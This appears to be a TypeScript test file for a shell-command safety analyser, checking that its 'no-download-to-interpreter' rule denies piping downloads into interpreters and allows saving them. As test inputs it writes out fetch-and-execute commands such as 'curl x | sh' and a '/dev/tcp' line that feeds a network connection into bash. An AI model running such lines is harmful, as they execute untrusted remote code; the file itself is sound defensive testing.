/** No download is run unseen, by whatever way it gets to an interpreter; what is only looked at, saved or unpacked is nobody’s concern. */
import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { downloadsKept } from './commands/downloads-kept.ts';
import { downloadsRun } from './commands/downloads-run.ts';
import { analyserOf } from './analyser.ts';
import { judgeLine } from './judge-line.ts';

const analyser = analyserOf();
after(() => analyser.close());

for (const [way, commands] of Object.entries(downloadsRun)) {
  describe(`a download that is run ${way}`, () => {
    for (const command of commands) {
      test(command, async () => {
        const { decision, by } = await judgeLine(analyser, 'auto', command);
        assert.deepEqual([decision, by], ['deny', 'pack:no-download-to-interpreter']);
      });
    }
  });
}

describe('a download that isn’t run', () => {
  for (const command of downloadsKept) {
    test(command, async () => {
      const { decision, by, reason } = await judgeLine(analyser, 'auto', command);
      assert.equal(decision, 'allow', `${by}: ${reason}`);
    });
  }
});

test('an interpreter runs what it is fed, unless its words are its code', async () => {
  const decide = async (text: string) => (await judgeLine(analyser, 'auto', `curl x | ${text}`)).decision;
  const fed =
    'sh|sh -|python3 - a|sh -s a|sh -x|sh +x|bash /dev/stdin|zsh /dev/fd/0|tsx|ts-node|tsx -|deno|irb|ipython|R|python3|python3 -u -|/bin/sh|node|perl';
  for (const text of fed.split('|')) assert.equal(await decide(text), 'deny', text);
  const given =
    'sh a.sh|sh -c x|sh -xc y|python3 -m x|python3 -c x|node -p x|node --eval x|ruby -e x|jq .|shx|xsh|cat -|osascript -e x|fish -c x|pwsh -c x|php -r x|php a.php|tclsh a.tcl|awk -f a.awk|make -f a.mk';
  for (const text of given.split('|')) assert.equal(await decide(text), 'allow', text);
});

test('a line that can’t be told asks where a shell may run what comes through a connection', async () => {
  const { decision, by } = await judgeLine(analyser, 'auto', 'exec 3<>/dev/tcp/x.test/80; bash <&3');
  assert.deepEqual([decision, by], ['ask', 'pack:no-download-to-interpreter']);
  assert.equal((await judgeLine(analyser, 'auto', 'exec 3<>/dev/tcp/x.test/80; cat <&3')).decision, 'allow');
});
